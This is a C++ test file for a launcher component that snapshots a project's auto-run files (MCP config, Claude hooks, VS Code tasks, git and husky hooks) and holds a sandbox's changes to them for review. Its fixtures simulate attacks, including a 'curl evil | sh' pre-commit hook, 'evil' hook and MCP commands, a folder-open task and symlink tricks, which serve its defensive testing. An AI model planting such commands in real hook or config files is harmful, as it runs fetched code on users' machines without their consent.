#include "launcher/autorun/autorun.h"

#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "launcher/test_util.h"

namespace corral::launcher::autorun {
namespace {

using launcher::testing::TempTree;
namespace fs = std::filesystem;

std::string Slurp(const std::string& path) {
  std::ifstream in(path);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

bool IsLink(const std::string& path) {
  struct stat st {};
  return ::lstat(path.c_str(), &st) == 0 && S_ISLNK(st.st_mode);
}

TEST(AutorunTable, Matches) {
  EXPECT_TRUE(Matches(".mcp.json", ".mcp.json"));
  EXPECT_FALSE(Matches(".mcp.json", ".mcp.json/x"));
  EXPECT_TRUE(Matches(".claude/hooks/", ".claude/hooks"));
  EXPECT_TRUE(Matches(".claude/hooks/", ".claude/hooks/a/b.sh"));
  EXPECT_FALSE(Matches(".claude/hooks/", ".claude/settings.json"));
  EXPECT_TRUE(Matches(".git/modules/*/hooks/", ".git/modules/lib/hooks/post-checkout"));
  EXPECT_FALSE(Matches(".git/modules/*/hooks/", ".git/modules/hooks/x"));
  EXPECT_FALSE(Matches(".git/modules/*/config", ".git/modules/a/b/config"));
}

TEST(AutorunTable, EveryRowHasAToolAndAReason) {
  for (const Row& row : Table()) {
    EXPECT_FALSE(row.tool.empty()) << row.pattern;
    EXPECT_FALSE(row.reason.empty()) << row.pattern;
    if (!row.held) {
      EXPECT_EQ(row.reason.rfind("not held", 0), 0u) << row.pattern;
    }
  }
}

// docs/sessions.md renders the table: every row of a project file is there,
// with its tool and reason as the code has them.
TEST(AutorunTable, TheDocsRenderEveryProjectRow) {
  std::ifstream file(std::string(CORRAL_SOURCE_DIR) + "/docs/sessions.md");
  std::stringstream text;
  text << file.rdbuf();
  for (const Row& row : Table()) {
    if (row.root != Root::kProject) continue;
    std::string line = "| `" + std::string(row.pattern) + "` | " + std::string(row.tool) + " | " +
                       std::string(row.reason) + " | " + (row.held ? "yes" : "no") + " |";
    EXPECT_NE(text.str().find(line), std::string::npos) << line;
  }
}

TEST(AutorunTable, HooksPathsAreReadAsText) {
  EXPECT_EQ(HooksPaths("[core]\n\thooksPath = .husky/_\n"), std::vector<std::string>{".husky/_"});
  EXPECT_EQ(HooksPaths("[Core]\n  HOOKSPATH = \"my hooks\" # here\n"),
            std::vector<std::string>{"my hooks"});
  EXPECT_TRUE(HooksPaths("[remote \"origin\"]\n\thooksPath = x\n").empty());
}

TEST(AutorunTable, WatchesResolveRootsAndHooksPath) {
  Roots roots;
  roots.project = "/p";
  roots.repo = "/p/.git";
  roots.git_configs = {"[core]\nhooksPath = githooks\n", "[core]\nhooksPath = /elsewhere\n",
                       "[core]\nhooksPath = ~/hooks\n"};
  auto watches = Watches(roots);
  auto has = [&](const std::string& base, const std::string& pattern) {
    for (const auto& w : watches) {
      if (w.base == base && w.pattern == pattern) return true;
    }
    return false;
  };
  EXPECT_TRUE(has("/p", ".git/hooks/"));
  EXPECT_TRUE(has("/p", ".git/modules/*/config"));
  EXPECT_TRUE(has("/p", "githooks/"));
  EXPECT_TRUE(has("/p", ".mcp.json"));
  EXPECT_FALSE(has("/p", ".envrc"));  // not held, and says why
  EXPECT_FALSE(has("/p", ".git"));    // only in a worktree
  for (const auto& w : watches) EXPECT_EQ(w.pattern.find("elsewhere"), std::string::npos);

  roots.worktree = true;
  roots.repo = "/main/.git";
  roots.git_dir = "/main/.git/worktrees/p";
  watches = Watches(roots);
  EXPECT_TRUE(has("/main/.git", "hooks/"));
  EXPECT_TRUE(has("/main/.git/worktrees/p", "config.worktree"));
  EXPECT_TRUE(has("/p", ".git"));
}

// A project with a few auto-run files, snapshotted; the test plays the box.
class AutorunSession : public ::testing::Test {
 protected:
  void SetUp() override {
    project_ = tree_.Dir("project");
    state_ = tree_.Dir("state");
    tree_.File("project/.mcp.json", "{\"mcpServers\":{}}\n");
    tree_.File("project/.vscode/tasks.json", "{\"tasks\":[]}\n");
    tree_.File("project/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    tree_.File("project/.git/config", "[core]\n\thooksPath = .husky\n");
    tree_.File("project/.husky/pre-commit", "npm test\n");
    tree_.File("project/src/main.c", "int main(){}\n");
    roots_.project = project_;
    roots_.repo = project_ + "/.git";
    roots_.git_configs = {Slurp(project_ + "/.git/config")};
  }
  Report Snapshot() {
    auto started = TakeSnapshot(state_, kId, roots_, {});
    EXPECT_TRUE(started) << (started ? "" : started.error().message);
    return {};
  }
  Report End() {
    auto report = EndSession(state_, kId);
    EXPECT_TRUE(report) << (report ? "" : report.error().message);
    return report ? *report : Report{};
  }
  std::string P(const std::string& rel) const { return project_ + "/" + rel; }

  static constexpr const char* kId = "0123456789ab";
  TempTree tree_;
  std::string project_, state_;
  Roots roots_;
};

TEST_F(AutorunSession, ReadOnlyPathsAreTheExistingMatches) {
  auto paths = ReadOnlyAtStart(roots_);
  ASSERT_TRUE(paths);
  auto has = [&](const std::string& p) {
    return std::find(paths->begin(), paths->end(), P(p)) != paths->end();
  };
  EXPECT_TRUE(has(".mcp.json"));
  EXPECT_TRUE(has(".vscode/tasks.json"));
  EXPECT_TRUE(has(".git/hooks"));
  EXPECT_TRUE(has(".husky"));
  EXPECT_FALSE(has(".claude/settings.json"));  // not there
  EXPECT_FALSE(has(".vscode"));                // on the way only
}

TEST_F(AutorunSession, NothingChangedHoldsNothingAndLeavesNoState) {
  Snapshot();
  std::ofstream(P("src/main.c")) << "changed by the box\n";
  Report report = End();
  EXPECT_TRUE(report.compared);
  EXPECT_TRUE(report.held.empty());
  EXPECT_FALSE(fs::exists(SessionFolder(state_, kId)));
  EXPECT_EQ(Slurp(P("src/main.c")), "changed by the box\n");  // not held
}

TEST_F(AutorunSession, NewChangedRemovedAreHeldAndPutBack) {
  Snapshot();
  fs::create_directories(P(".claude"));
  std::ofstream(P(".claude/settings.json")) << "{\"hooks\":{}}\n";
  std::ofstream(P(".mcp.json")) << "{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}\n";
  fs::remove(P(".husky/pre-commit"));
  Report report = End();
  ASSERT_EQ(report.held.size(), 3u);
  EXPECT_EQ(HeldLine(report),
            "held for review: .claude/settings.json (new), .husky/pre-commit (removed), "
            ".mcp.json (changed): corral review 0123456789ab");
  EXPECT_TRUE(report.errors.empty());
  EXPECT_FALSE(fs::exists(P(".claude/settings.json")));
  EXPECT_FALSE(fs::exists(P(".claude")));  // the box made it; empty now
  EXPECT_EQ(Slurp(P(".mcp.json")), "{\"mcpServers\":{}}\n");
  EXPECT_EQ(Slurp(P(".husky/pre-commit")), "npm test\n");
  // Once: a second end step finds what the first did.
  auto again = EndSession(state_, kId);
  ASSERT_TRUE(again);
  EXPECT_EQ(again->held.size(), 3u);
  ASSERT_EQ(HeldSessions(state_).size(), 1u);
}

TEST_F(AutorunSession, ExecutableBitIsAChange) {
  Snapshot();
  ::chmod(P(".husky/pre-commit").c_str(), 0755);
  Report report = End();
  ASSERT_EQ(report.held.size(), 1u);
  struct stat st {};
  ASSERT_EQ(::stat(P(".husky/pre-commit").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0111, 0u);
}

TEST_F(AutorunSession, SymlinkPlantedWhereAHeldFileWas) {
  tree_.File("project/secret-target", "box content\n");
  Snapshot();
  fs::remove(P(".mcp.json"));
  fs::create_symlink("secret-target", P(".mcp.json"));
  Report report = End();
  ASSERT_EQ(report.held.size(), 1u);
  EXPECT_EQ(report.held[0].change, Change::kKindChanged);
  EXPECT_FALSE(IsLink(P(".mcp.json")));
  EXPECT_EQ(Slurp(P(".mcp.json")), "{\"mcpServers\":{}}\n");
  EXPECT_EQ(Slurp(P("secret-target")), "box content\n");  // never written through
}

TEST_F(AutorunSession, SymlinkedParentIsNeverGoneThrough) {
  tree_.File("project/elsewhere/settings.json", "{\"hooks\":1}\n");
  Snapshot();
  fs::create_symlink("elsewhere", P(".claude"));
  Report report = End();
  ASSERT_EQ(report.held.size(), 1u);
  EXPECT_EQ(report.held[0].shown, ".claude");
  EXPECT_FALSE(fs::exists(P(".claude")));  // the link is gone, the target stays
  EXPECT_EQ(Slurp(P("elsewhere/settings.json")), "{\"hooks\":1}\n");
}

TEST_F(AutorunSession, FolderRenamedAsideAndAFreshFileWritten) {
  Snapshot();
  fs::rename(P(".vscode"), P(".vscode-aside"));
  fs::create_directories(P(".vscode"));
  std::ofstream(P(".vscode/tasks.json")) << "{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n";
  Report report = End();
  ASSERT_EQ(report.held.size(), 1u);
  EXPECT_EQ(report.held[0].shown, ".vscode/tasks.json");
  EXPECT_EQ(report.held[0].change, Change::kChanged);
  EXPECT_EQ(Slurp(P(".vscode/tasks.json")), "{\"tasks\":[]}\n");
  EXPECT_TRUE(fs::exists(P(".vscode-aside/tasks.json")));  // an ordinary file now
}

TEST_F(AutorunSession, FileTurnedIntoAFolder) {
  Snapshot();
  fs::remove(P(".mcp.json"));
  fs::create_directories(P(".mcp.json/inner"));
  std::ofstream(P(".mcp.json/inner/x")) << "x";
  Report report = End();
  EXPECT_TRUE(report.errors.empty()) << report.errors.front();
  EXPECT_TRUE(fs::is_regular_file(P(".mcp.json")));
  EXPECT_EQ(Slurp(P(".mcp.json")), "{\"mcpServers\":{}}\n");
}

TEST_F(AutorunSession, NewSubmoduleHooksAreHeld) {
  Snapshot();
  fs::create_directories(P(".git/modules/lib/hooks"));
  std::ofstream(P(".git/modules/lib/hooks/post-checkout")) << "#!/bin/sh\nevil\n";
  Report report = End();
  ASSERT_EQ(report.held.size(), 1u);
  EXPECT_EQ(report.held[0].shown, ".git/modules/lib/hooks/post-checkout");
  EXPECT_FALSE(fs::exists(P(".git/modules/lib/hooks/post-checkout")));
}

TEST_F(AutorunSession, UnreadableAtStartStopsTheSession) {
  if (::geteuid() == 0) GTEST_SKIP() << "root reads every file";
  ::chmod(P(".mcp.json").c_str(), 0);
  auto started = TakeSnapshot(state_, kId, roots_, {});
  ASSERT_FALSE(started);
  EXPECT_NE(started.error().message.find(".mcp.json"), std::string::npos);
  EXPECT_NE(started.error().message.find("Nothing ran"), std::string::npos);
}

TEST(AutorunRestore, AnErrorSaysWhichFileIsInWhichState) {
  // The host's version cannot go back: its folder cannot be reached.
  Node file;
  file.base = "/nonexistent-corral-test";
  file.path = ".mcp.json";
  Held held;
  held.base = file.base;
  held.path = file.path;
  held.shown = ".mcp.json";
  held.change = Change::kRemoved;
  held.start = file;
  auto errors = Restore({{held}, {}}, {});
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(errors[0].rfind(".mcp.json: the host's version could not be put back", 0), 0u);
  EXPECT_NE(errors[0].find("the host has none"), std::string::npos);
}

TEST_F(AutorunSession, AParentTurnedIntoAFileIsPutBack) {
  Snapshot();
  fs::remove_all(P(".vscode"));
  std::ofstream(P(".vscode")) << "a file now";
  Report report = End();
  EXPECT_TRUE(report.errors.empty());
  EXPECT_EQ(Slurp(P(".vscode/tasks.json")), "{\"tasks\":[]}\n");
}

TEST_F(AutorunSession, ReviewAppliesDiscardsAndRefusesAChangedHostFile) {
  Snapshot();
  fs::create_directories(P(".claude"));
  std::ofstream(P(".claude/settings.json")) << "{\"hooks\":{}}\n";
  std::ofstream(P(".mcp.json")) << "box\n";
  Report report = End();
  ASSERT_EQ(report.held.size(), 2u);
  EXPECT_NE(Diff(state_, report, report.held[1]).find("+box"), std::string::npos);

  std::ofstream(P(".mcp.json")) << "the user edited it since\n";
  auto refused = Decide(state_, kId, {".mcp.json"}, Decision::kApply, false);
  ASSERT_FALSE(refused);
  EXPECT_NE(refused.error().message.find("--force"), std::string::npos);
  auto forced = Decide(state_, kId, {".mcp.json"}, Decision::kApply, true);
  ASSERT_TRUE(forced);
  EXPECT_EQ(Slurp(P(".mcp.json")), "box\n");

  auto unknown = Decide(state_, kId, {"nope"}, Decision::kDiscard, false);
  EXPECT_FALSE(unknown);
  auto applied = Decide(state_, kId, {".claude/settings.json"}, Decision::kApply, false);
  ASSERT_TRUE(applied) << applied.error().message;
  EXPECT_EQ(Slurp(P(".claude/settings.json")), "{\"hooks\":{}}\n");
  EXPECT_TRUE(HeldSessions(state_).empty());
  EXPECT_FALSE(fs::exists(SessionFolder(state_, kId)));
}

TEST_F(AutorunSession, DiscardKeepsTheHostsVersion) {
  Snapshot();
  std::ofstream(P(".husky/pre-commit")) << "curl evil | sh\n";
  End();
  auto discarded = Decide(state_, kId, {}, Decision::kDiscard, false);
  ASSERT_TRUE(discarded);
  EXPECT_EQ(Slurp(P(".husky/pre-commit")), "npm test\n");
  EXPECT_TRUE(HeldSessions(state_).empty());
}

TEST_F(AutorunSession, PendingUntilCompared) {
  Snapshot();
  EXPECT_EQ(PendingSessions(state_), std::vector<std::string>{kId});
  End();
  EXPECT_TRUE(PendingSessions(state_).empty());
}

}  // namespace
}  // namespace corral::launcher::autorun
